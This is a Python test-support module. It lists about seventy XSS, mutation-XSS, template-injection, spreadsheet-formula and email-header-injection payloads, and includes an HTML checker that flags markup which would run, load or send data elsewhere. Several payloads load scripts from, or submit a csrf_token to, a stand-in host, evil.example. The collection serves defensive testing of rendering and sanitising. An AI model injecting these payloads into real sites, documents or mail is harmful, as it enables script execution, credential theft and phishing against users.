"""Known ways to smuggle a script, a request or a deception into a text; for tests of what shows texts.

What would run sets ``window.taken``; what would load asks for something at ``evil.example``. Collected after
the OWASP cheat sheet on XSS filter evasion, mutation XSS, and what template languages would evaluate.
"""

from html.parser import HTMLParser
from urllib.parse import urlsplit

PAYLOADS: tuple[str, ...] = (
    # Scripts, and the ways out of what one may stand in.
    "<script>window.taken=1</script>",
    "</title></textarea></style></script><script>window.taken=1</script>",
    "<scr<script>ipt>window.taken=1</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/x>window.taken=1</script>",
    "<script\x0c>window.taken=1</script>",
    '<script type="module">window.taken=1</script>',
    "--><script>window.taken=1</script><!--",
    "]]><script>window.taken=1</script>",
    "<![CDATA[<script>window.taken=1</script>]]>",
    "<!--[if gte IE 4]><script>window.taken=1</script><![endif]-->",
    # Event handlers, out of an attribute too.
    '"><img src=x onerror=window.taken=1>',
    "'><svg onload=window.taken=1>",
    "<img src=x onerror=window.taken=1//",
    "<img/src=x/onerror=window.taken=1>",
    "<img src='x' onerror\x0b=window.taken=1>",
    "<body onload=window.taken=1>",
    "<input autofocus onfocus=window.taken=1>",
    "<details open ontoggle=window.taken=1>x</details>",
    "<video><source onerror=window.taken=1></video>",
    "<audio src onloadstart=window.taken=1></audio>",
    "<marquee onstart=window.taken=1>x</marquee>",
    '" onmouseover="window.taken=1" x="',
    "' autofocus tabindex=1 onfocus='window.taken=1",
    '<p style="animation-name:arrive" onanimationstart="window.taken=1">x</p>',
    # Links that run or hold a page.
    '<a href="javascript:window.taken=1">x</a>',
    '<a href="java\tscript:window.taken=1">x</a>',
    '<a href="jav&#x0A;ascript:window.taken=1">x</a>',
    '<a href=" &#14; javascript:window.taken=1">x</a>',
    '<a href="JaVaScRiPt&colon;window.taken=1">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>window.taken=1</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cudGFrZW49MTwvc2NyaXB0Pg==">x</a>',
    "[x](javascript:window.taken=1)",
    # SVG and MathML, which know scripts and links of their own.
    "<svg><script>window.taken=1</script></svg>",
    '<svg><a xlink:href="javascript:window.taken=1"><text y=20>x</text></a></svg>',
    "<svg><animate onbegin=window.taken=1 attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>1</script></svg>#x"/></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>parent.taken=1</script>"></iframe></foreignObject></svg>',
    '<math><a xlink:href="javascript:window.taken=1">x</a></math>',
    # What a parser makes of broken markup (mutation XSS).
    '<math><mtext></p><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.taken=1&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=window.taken=1>">',
    '<svg></p><style><a id="</style><img src=1 onerror=window.taken=1>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.taken=1>',
    "<table><td background=//evil.example/x><script>window.taken=1</script>",
    "<div><template><script>window.taken=1</script></template>",
    "<<img src=x onerror=window.taken=1>>",
    # Frames, and elements that load or send something elsewhere.
    "<iframe src=https://evil.example></iframe>",
    '<iframe srcdoc="<script>parent.taken=1</script>"></iframe>',
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<style>@import 'https://evil.example/x.css'</style>",
    '<div style="background:url(https://evil.example)">x</div>',
    '<link rel=stylesheet href=https://evil.example/x.css>',
    '<form action=https://evil.example><input name=csrf_token><button>Logg inn</button></form>',
    '<button formaction="javascript:window.taken=1">x</button>',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "<base href=https://evil.example/>",
    '<img srcset="https://evil.example/x 1x" src="https://evil.example/x">',
    # What a template language would evaluate: the product gives it away.
    "{{ 7919*7907 }}",
    "{% set x = 7919*7907 %}{{ x }}",
    "${7919*7907}#{7919*7907}<%= 7919*7907 %>",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "%(title)s %s {0} {title}",
    # Characters that deceive, and encodings that some decode twice.
    "\u202egnp.exe<script\u0000>window.taken=1</script>",
    "\uff1cscript\uff1ewindow.taken=1\uff1c/script\uff1e",
    "+ADw-script+AD4-window.taken=1+ADw-/script+AD4-",
    "%3Cscript%3Ewindow.taken=1%3C/script%3E",
    "&lt;script&gt;window.taken=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.taken=1&#62;",
    "\u2028<img src=x onerror=window.taken=1>\u2029",
    "=cmd|' /C calc'!A0",
    "\r\nBcc: victim@example.no\r\n\r\n<script>window.taken=1</script>",
)  # fmt: skip

EVALUATED = str(7919 * 7907)
"""What shows in a page only if a payload was evaluated as a template."""

_NEVER = frozenset({"iframe", "object", "embed", "base", "math", "video", "audio", "source", "marquee", "applet",
                    "frame", "foreignobject", "animate", "set", "template", "noscript"})  # fmt: skip
_RUNS = ("javascript:", "data:", "vbscript:")
_LEADS = ("href", "src", "action", "formaction", "xlink:href", "background", "srcset", "poster", "data")


class _Look(HTMLParser):
    def __init__(self, own: str, *, styles: bool) -> None:
        super().__init__()
        self.found: list[str] = []
        self._own = own
        self._styles = styles

    def _is_own(self, address: str | None) -> bool:
        parts = urlsplit((address or "").strip())
        return (not parts.netloc and parts.path.startswith("/")) or bool(
            self._own and (address or "").startswith(self._own)
        )

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        held = dict(attributes)
        if (
            tag in _NEVER
            or (tag in ("img", "script", "link") and not self._is_own(held.get("src") or held.get("href")))
            or (tag == "form" and not self._is_own(held.get("action")))
            or (tag == "style" and "nonce" not in held and not self._styles)
            or (tag == "meta" and (held.get("http-equiv") or "").lower() == "refresh")
        ):
            self.found.append(f"<{tag}>")
        for name, value in attributes:
            text = "".join((value or "").split()).lower()
            if (
                name.startswith("on")
                or (name == "style" and ("url(" in text or not self._styles))
                or (name in _LEADS and text.startswith(_RUNS))
                or name == "srcdoc"
            ):
                self.found.append(f"{tag} {name}={value}")


def what_runs(html: str, *, own: str = "", styles: bool = False) -> list[str]:
    """What of a page would run, load or send something that is not the page's own; nothing of a safe page.

    Args:
        html: as it was served.
        own: what our own addresses begin with, beside those without a host.
        styles: whether styles in the markup are the page's own, as in a mail.
    """
    look = _Look(own, styles=styles)
    look.feed(html)
    return look.found
